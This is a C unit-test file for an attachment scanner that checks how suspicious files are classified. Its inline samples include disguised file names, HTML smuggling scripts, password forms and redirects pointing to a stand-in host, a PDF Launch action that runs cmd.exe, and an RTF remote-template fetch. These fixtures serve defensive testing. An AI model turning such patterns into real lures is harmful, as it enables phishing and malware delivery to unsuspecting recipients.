/* Names, pages, invitations, shortcuts, PDF and RTF: files that are text, so that the test writes them itself. */
#include "files_world.h"
#include "locked_pdf.h"

#include <zlib.h>

#define T(text) {(text), sizeof(text) - 1}
#define PAGE "<!DOCTYPE html><html><body>"
#define WORDS "<p>Dear customer, this page tells of the order that you placed last week with our shop. It holds the list of all goods, " \
              "their prices, and the day on which they will be brought to your door. Please keep it with your papers. It also names the " \
              "clerk whom you may ask, and the hours of the shop.</p>"
#define LONG_64 "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2"
#define LONG LONG_64 LONG_64 LONG_64 LONG_64 LONG_64 LONG_64 LONG_64 LONG_64 LONG_64 LONG_64
/* <form action="https://take.example.net/p"><input type="password"> */
#define FORM_64 "PGZvcm0gYWN0aW9uPSJodHRwczovL3Rha2UuZXhhbXBsZS5uZXQvcCI+PGlucHV0IHR5cGU9InBhc3N3b3JkIj48cD5TaWduIGluIHRvIHJlYWQ8L3A+PGI+PC9iPjwvZm9ybT4="
#define MACHO "\xcf\xfa\xed\xfe\x07\x00\x00\x01"

static const struct files_sample named[] = {
    {"a program by name", "application/octet-stream", "setup.scr", T("text"), FILE_EXECUTABLE, FILE_DOUBLE_ENDING, NULL, NULL},
    {"a letter by name", "application/pdf", "setup.pdf", T("%PDF-1.4\n1 0 obj<<>>endobj"), FILE_PDF, FILE_EXECUTABLE | FILE_SCRIPT, NULL, NULL},
    {"a domain as a name", "text/plain", "report-example.com", T("text"), 0, FILE_EXECUTABLE, NULL, NULL},
    {"two endings", "application/octet-stream", "invoice.pdf.js", T("var a"), FILE_SCRIPT | FILE_DOUBLE_ENDING, 0, NULL, NULL},
    {"two honest endings", "application/gzip", "data.csv.zip", T("PK\5\6\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"), FILE_ARCHIVE, FILE_DOUBLE_ENDING, NULL, NULL},
    {"pushed away by blanks", "application/octet-stream", "Rechnung            .exe", T("x"), FILE_EXECUTABLE | FILE_DOUBLE_ENDING, 0, NULL, NULL},
    {"turned about", "application/octet-stream", "ann\xe2\x80\xae" "fdp.exe", T("x"), FILE_EXECUTABLE | FILE_DOUBLE_ENDING, 0, NULL, NULL},
    {"Arabic marks in a letter's name", "application/pdf", "\xe2\x80\xab" "a.pdf", T("%PDF-1.4\n1 0 obj<<>>endobj"), FILE_PDF, FILE_DOUBLE_ENDING, NULL, NULL},
    {"dots behind the ending", "application/octet-stream", "a.exe. ", T("x"), FILE_EXECUTABLE, 0, NULL, NULL},
    {"a program as a picture", "image/jpeg", "photo.jpg", T(MACHO), FILE_EXECUTABLE | FILE_NAME_MISFITS, 0, NULL, NULL},
    {"a page as a letter", "application/pdf", "letter.pdf", T(PAGE WORDS), FILE_HTML | FILE_NAME_MISFITS, 0, NULL, NULL},
    {"a page as a table", "application/vnd.ms-excel", "table.xls", T(PAGE WORDS), FILE_HTML, FILE_NAME_MISFITS, NULL, NULL},
    {"text that begins like a program", "text/plain", "MZ.txt", T("MZ is the mark of a program, and this text is none of them, however long it is."), 0,
     FILE_EXECUTABLE | FILE_NAME_MISFITS, NULL, NULL},
    {"settings for a telephone as a calendar", "text/calendar", "a.ics",
     T("<?xml version=\"1.0\"?>\n<!DOCTYPE plist PUBLIC \"x\" \"y\">\n<plist><dict><key>PayloadContent</key></dict></plist>"), FILE_SCRIPT | FILE_NAME_MISFITS, 0,
     NULL, NULL},
    {"a notebook", "application/octet-stream", "a.one", T("\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d"), FILE_SCRIPT, 0, NULL, NULL},
    {"an image of a disk by its end", "application/octet-stream", "a.vhd", T("conectix"), FILE_DISK_IMAGE, 0, NULL, NULL},
};

static const struct files_sample pages[] = {
    {"an invoice to be read", "text/html", "invoice.html", T(PAGE WORDS), FILE_HTML, FILE_HTML_SCRIPT | FILE_HTML_FORM | FILE_HTML_SMUGGLING, NULL, NULL},
    {"a form", "text/html", "f.html", T(PAGE "<form action='https://take.example.net/p'><input type=password></form>"), FILE_HTML_FORM | FILE_HTML_PASSWORD,
     FILE_HTML_SCRIPT | FILE_HTML_SMUGGLING, "https://take.example.net/p", NULL},
    {"a form without a password", "text/html", "f.html", T(PAGE "<form action='https://take.example.net/p'><input name=q></form>"), FILE_HTML_FORM,
     FILE_HTML_PASSWORD, "https://take.example.net/p", NULL},
    {"a file made by script", "text/html", "v.html",
     T(PAGE "<script>var d=atob('" LONG "');var b=new Blob([d]);a.href=URL.createObjectURL(b);a.download='x.zip';a.click()</script>"),
     FILE_HTML_SCRIPT | FILE_HTML_SMUGGLING, FILE_HTML_REDIRECT, NULL, NULL},
    {"a report that can save its table", "text/html", "r.html",
     T(PAGE WORDS "<script>function save(){var b=new Blob([rows]);a.href=URL.createObjectURL(b);a.download='t.csv';a.click()}</script>"), FILE_HTML_SCRIPT,
     FILE_HTML_SMUGGLING, NULL, NULL},
    {"a page written by script", "text/html", "v.html", T("<html><script>document.write(unescape('" LONG "'))</script>"), FILE_HTML_SMUGGLING, 0, NULL, NULL},
    {"an old counter of visits", "text/html", "v.html", T(PAGE WORDS "<script>document.write(unescape(\"%3Cscript src='a.js'%3E%3C/script%3E\"))</script>"),
     FILE_HTML_SCRIPT, FILE_HTML_SMUGGLING, NULL, NULL},
    {"a form packed in base64", "text/html", "v.html", T("<html><script>document.write(atob('" FORM_64 "'))</script>"),
     FILE_HTML_FORM | FILE_HTML_PASSWORD | FILE_HTML_SMUGGLING, 0, "https://take.example.net/p", NULL},
    {"leads on at once", "text/html", "v.html", T("<html><meta http-equiv=refresh content='0;url=https://take.example.net/p'>"), FILE_HTML_REDIRECT, 0,
     "https://take.example.net/p", NULL},
    {"leads on by script", "text/html", "v.html", T("<html><script>window.location.href='https://take.example.net/p'</script>"), FILE_HTML_REDIRECT, 0,
     "https://take.example.net/p", NULL},
    {"a page with a button", "text/html", "v.html", T(PAGE WORDS "<script>function go(){location.href='https://take.example.net/p'}</script>"),
     FILE_HTML_SCRIPT, FILE_HTML_REDIRECT, "https://take.example.net/p", NULL},
    {"a page inside an address", "text/html", "v.html", T("<html><iframe src='data:text/html;base64,PGI+'></iframe>"), FILE_HTML_SMUGGLING, 0,
     "data:text/html;base64,PGI+", NULL},
    {"a picture with a script", "image/svg+xml", "a.svg", T("<svg xmlns='http://www.w3.org/2000/svg'><script>location='https://take.example.net/p'</script></svg>"),
     FILE_SVG_SCRIPT | FILE_HTML, 0, "https://take.example.net/p", NULL},
    {"a picture that acts", "image/svg+xml", "a.svg", T("<svg onload = 'eval(name)+1'></svg>"), FILE_SVG_SCRIPT, 0, NULL, NULL},
    {"a drawing", "image/svg+xml", "a.svg", T("<svg><path d='M0 0'/></svg>"), FILE_HTML, FILE_SVG_SCRIPT | FILE_HTML_SCRIPT, NULL, NULL},
};

static const struct files_sample texts[] = {
    {"an invitation over folded lines", "text/calendar", "i.ics",
     T("BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nORGANIZER;CN=\"a:b\":mailto:boss@brand.example\r\nDESCRIPTION:Join https://take.exam\r\n ple.net/p\\nnow\r\nEND:VEVENT\r\n"),
     FILE_CALENDAR, FILE_BROKEN, "https://take.example.net/p", "boss@brand.example"},
    {"an invitation without a link", "text/calendar", "i.ics", T("BEGIN:VCALENDAR\r\nSUMMARY:Lunch\r\nX-OTHER:https://take.example.net/p\r\nEND:VCALENDAR\r\n"),
     FILE_CALENDAR, FILE_BROKEN, NULL, NULL},
    {"no invitation", "text/calendar", "i.ics", T("nothing of it"), FILE_CALENDAR | FILE_BROKEN, 0, NULL, NULL},
    {"a shortcut to a page", "application/octet-stream", "a.url", T("[InternetShortcut]\r\nURL=file://192.0.2.1/x/a.exe\r\n"), FILE_SCRIPT, 0,
     "file://192.0.2.1/x/a.exe", NULL},
    {"a shortcut to a program", "application/octet-stream", "a.pdf.lnk", T("L\0\0\0\x01\x14\x02\0h\0t\0t\0p\0:\0/\0/\0t\0.\0e\0x\0a\0m\0p\0l\0e\0/\0a\0\0\0"),
     FILE_SCRIPT | FILE_DOUBLE_ENDING, 0, "http://t.example/a", NULL},
    {"a PDF file with a link", "application/pdf", "a.pdf", T("%PDF-1.4\n1 0 obj<</A<</S/URI/URI(https://take.example.net/\\(p\\))>>>>endobj"), FILE_PDF,
     FILE_PDF_ACTION, "https://take.example.net/(p)", NULL},
    {"its name in figures", "application/pdf", "a.pdf", T("%PDF-1.4\n1 0 obj<</A<</S/#55RI/U#52I<68747470733A2F2F742E6578616D706C652F>>>>>endobj"), FILE_PDF, 0,
     "https://t.example/", NULL},
    {"its end is not told", "application/pdf", "a.pdf", T("%PDF-1.4\n1 0 obj<</Length 99999>>stream\nxx endstream endobj 2 0 obj<</URI(http://t.example/)>>"), FILE_PDF, 0,
     "http://t.example/", NULL},
    {"a PDF file that shows its first page", "application/pdf", "a.pdf", T("%PDF-1.4\n1 0 obj<</OpenAction[3 0 R/Fit]/A<</S/URI/URI(http://t.example/)>>>>endobj"),
     FILE_PDF, FILE_PDF_ACTION, "http://t.example/", NULL},
    {"a PDF file that opens a page by itself", "application/pdf", "a.pdf",
     T("%PDF-1.4\n1 0 obj<</OpenAction 2 0 R>>endobj\n2 0 obj<</S/URI/URI(http://t.example/)>>endobj"), FILE_PDF_ACTION, 0, "http://t.example/", "OpenAction"},
    {"a PDF file that starts a program", "application/pdf", "a.pdf", T("%PDF-1.4\n1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>/JS(x)>>endobj"), FILE_PDF_ACTION, 0, NULL,
     "Launch"},
    {"a PDF file whose objects are packed twice", "application/pdf", "a.pdf", T("%PDF-1.5\n1 0 obj<</Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]>>stream\n789c03>\nendstream endobj"),
     FILE_NOT_WHOLLY_READ, 0, NULL, NULL},
    {"a locked PDF file with objects packed", "application/pdf", "a.pdf", T("%PDF-1.5\n1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\nxxxxx\nendstream endobj trailer<</Encrypt 5 0 R>>"),
     FILE_PDF_ENCRYPTED, FILE_NOT_WHOLLY_READ, NULL, NULL},
    {"a locked PDF file", "application/pdf", "a.pdf", T("%PDF-1.4\ntrailer<</Encrypt 5 0 R>>1 0 obj<<>>endobj"), FILE_PDF_ENCRYPTED, FILE_PDF_ACTION, NULL, NULL},
    {"a PDF file behind other bytes", "application/octet-stream", "a.bin", T("junk\n%PDF-1.4\n1 0 obj<<>>endobj"), FILE_PDF, FILE_BROKEN, NULL, NULL},
    {"a rich text", "application/rtf", "a.rtf", T("{\\rtf1 A letter}"), FILE_OFFICE, FILE_OFFICE_EMBEDDED | FILE_OFFICE_AUTORUN, NULL, NULL},
    {"a rich text with an object", "application/msword", "a.doc", T("{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata 0105}}}"),
     FILE_OFFICE | FILE_OFFICE_EMBEDDED | FILE_OFFICE_AUTORUN, FILE_NAME_MISFITS, NULL, NULL},
    {"a rich text that fetches its template", "application/msword", "a.doc", T("{\\rtf1{\\*\\template https://t.example/a.dotm}}"), FILE_OFFICE_REMOTE, 0,
     "https://t.example/a.dotm", "https://t.example/a.dotm"},
    {"a rich text with its own template", "application/msword", "a.doc", T("{\\rtf1{\\*\\template C:\\\\Users\\\\a.dot}}"), FILE_OFFICE, FILE_OFFICE_REMOTE, NULL, NULL},
};

static void check_all(struct files_world *w, const struct files_sample *samples, size_t count)
{
    for (size_t i = 0; i < count; i++)
        files_sample_check(w, &samples[i]);
}
static void each_name(void **state) { check_all(*state, named, sizeof named / sizeof *named); }
static void each_page(void **state) { check_all(*state, pages, sizeof pages / sizeof *pages); }
static void each_text(void **state) { check_all(*state, texts, sizeof texts / sizeof *texts); }

/* 7.5.7: a link within a packed stream of objects. */
static void pdf_stream_of_objects(void **state)
{
    struct files_world *w = *state;
    static const char inside[] = "7 0 <</S/URI/URI(https://take.example.net/packed)>>";
    Bytef packed[200];
    uLongf len = sizeof packed;
    assert_int_equal(compress(packed, &len, (const Bytef *)inside, sizeof inside - 1), Z_OK);
    struct buf file = {.arena = w->arena};
    buf_add(&file, S("%PDF-1.5\n4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\r\n"));
    buf_add(&file, (struct span){(char *)packed, len});
    buf_add(&file, S("\nendstream endobj"));
    struct files_sample sample = {"objects in a stream", "application/pdf", "a.pdf", buf_span(&file), FILE_PDF, FILE_NOT_WHOLLY_READ,
                                  "https://take.example.net/packed", NULL};
    files_sample_check(w, &sample);
}

/* What stands in reports is no longer than it need be, whatever a file holds. */
static void endless_words(void **state)
{
    static const char *const heads[] = {"BEGIN:VCALENDAR\r\nORGANIZER:mailto:", "{\\rtf1{\\*\\template https://t.example/"};
    for (size_t i = 0; i < 2; i++) {
        struct files_world *w = *state;
        struct buf file = {.arena = w->arena};
        buf_add(&file, span_of(heads[i]));
        for (size_t n = 0; n < 100000; n++)
            buf_byte(&file, 'a');
        files_world_read(w, NULL, i ? "application/rtf" : "text/calendar", i ? "a.rtf" : "i.ics", buf_span(&file));
        assert_int_equal(w->files.list.len, 1);
        assert_in_range(w->files.list.at[0].inner.len, 1, 2048);
        files_world_done(w);
    }
}

/* Readers ask for no password where it is empty; one byte of the owner's entry changed, and nothing can be read. */
static void pdf_locked(void **state)
{
    struct files_world *w = *state;
    struct span bytes = arena_copy(w->arena, (struct span){(const char *)locked_pdf, sizeof locked_pdf});
    struct files_sample sample = {"locked with an empty password", "application/pdf", "a.pdf", bytes, FILE_PDF | FILE_PDF_ENCRYPTED, FILE_BROKEN,
                                  "https://take.example.net/locked", ""};
    files_sample_check(w, &sample);
    bytes = arena_copy(w->arena, (struct span){(const char *)locked_pdf, sizeof locked_pdf});
    char *owner = (char *)(uintptr_t)span_find(bytes, S("/O "));
    assert_non_null(owner);
    owner[8] = owner[8] == '1' ? '2' : '1';
    sample.label = "locked with another password";
    sample.bytes = bytes;
    sample.leads = NULL;
    sample.inner = "password";
    files_sample_check(w, &sample);
}

/* Nothing to do where there is no file, and a message as attachment is told. */
static void parts_of_messages(void **state)
{
    static const char mail[] = "From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nhello\r\n--b\r\n"
                               "Content-Type: message/rfc822\r\n\r\nSubject: x\r\n\r\ninner\r\n--b--\r\n";
    struct files_world *w = *state;
    struct message_limits message_limits;
    struct file_limits limits;
    message_limits_default(&message_limits);
    file_limits_default(&limits);
    struct arrival arrival = {.raw = exact(mail), .received_at = TIME_UNKNOWN};
    message_parse(w->arena, &message_limits, w->tables, &arrival, &w->message);
    content_files_read(w->arena, &limits, w->tables, &w->message, &w->files);
    assert_true(w->files.list.len == 1 && w->files.traits == FILE_MESSAGE);
    free((char *)(uintptr_t)arrival.raw.at);
    arrival.raw = exact("From: a@b.example\r\n\r\nhello\r\n");
    message_parse(w->arena, &message_limits, w->tables, &arrival, &w->message);
    content_files_read(w->arena, &limits, NULL, &w->message, &w->files);
    assert_true(w->files.list.len == 0 && w->files.traits == 0);
    free((char *)(uintptr_t)arrival.raw.at);
    arena_reset(w->arena);
}

/* A kind is shown to people as it stands: no sign and no half of a letter from a stranger's name. */
static void kinds_by_name(void **state)
{
    static const struct {
        const char *name, *kind;
    } names[] = {{"notes.DAT", "dat"}, {"notes.x\x1b[2J", ""}, {"notes.\xc3\x9e\xc3\xb2", ""}, {"notes.abcdefghijklmnopqrstuvwxyz", ""}, {"notes", ""}};
    struct files_world *w = *state;
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        files_world_read(w, NULL, "application/octet-stream", names[i].name, S("some words"));
        assert_true(w->files.list.len == 1 && span_eq(w->files.list.at[0].kind, span_of(names[i].kind)));
        files_world_done(w);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(endless_words), cmocka_unit_test(each_name), cmocka_unit_test(kinds_by_name), cmocka_unit_test(each_page), cmocka_unit_test(each_text),
                                       cmocka_unit_test(pdf_stream_of_objects), cmocka_unit_test(pdf_locked), cmocka_unit_test(parts_of_messages)};
    return cmocka_run_group_tests(tests, rooms_setup, rooms_teardown);
}
